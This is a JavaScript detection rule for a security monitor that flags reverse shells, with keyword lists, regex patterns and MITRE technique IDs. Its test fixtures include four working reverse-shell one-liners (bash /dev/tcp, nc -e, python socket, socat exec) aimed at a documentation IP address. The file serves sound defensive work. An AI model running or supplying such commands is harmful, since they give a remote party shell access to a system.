import { commandRule } from "../rule.js";

/** A shell whose input and output go over the network to somebody else. */
export const reverseShellOpened = commandRule({
  id: "reverse-shell-opened",
  alertType: "IoT_ReverseShell",
  name: "Reverse shells",
  severity: "High",
  about: "A shell whose input and output go over the network to somebody else.",
  tactics: ["Execution", "Command and Control"],
  techniques: ["T1059.004", "T1071"],
  witness: [
    "/dev/tcp/",
    "/dev/udp/",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "socket",
    "fsockopen",
    "mkfifo",
    "-rsocket",
    "telnet ",
  ],
  patterns: [
    /\/dev\/(?:tcp|udp)\/[\w.-]+\/\d+/i,
    /\b(?:nc|ncat|netcat)(?:\.\w+)?\b(?=.*\s-\w*[ec]\w*\s*(?:\/bin\/|\/usr\/bin\/)?(?:ba|da|z|k|c)?sh\b).*/i,
    /\bsocat\b.*\bexec:['"]?(?:\/bin\/)?(?:ba|da|z)?sh.*/i,
    /\b(?:python[\d.]*|perl|ruby|php|node)\b.*\bsocket\b.*\b(?:dup2|subprocess|pty|exec|spawn)\b.*/i,
    /\bphp\b.*\bfsockopen\(.*/i,
    /\bmkfifo\b.*\|\s*(?:\/bin\/)?(?:ba)?sh\b.*\|\s*(?:nc|ncat|telnet|openssl)\b.*/i,
    /\btelnet\s+\S+\s+\d+\s*\|\s*(?:\/bin\/)?(?:ba)?sh\b.*/i,
  ],
  did: "opened a shell to the network",
  because: "it connects a shell to a remote address",
  fires: [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc -e /bin/sh 203.0.113.9 4444",
    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',1));os.dup2(s.fileno(),0)",
    "socat tcp:203.0.113.9:1 exec:/bin/sh",
  ],
  silent: [
    "nc -l -p 8888",
    "nc -zv 10.0.0.2 22",
    "python3 -m http.server",
    "socat - UNIX-CONNECT:/run/haproxy.sock",
  ],
});
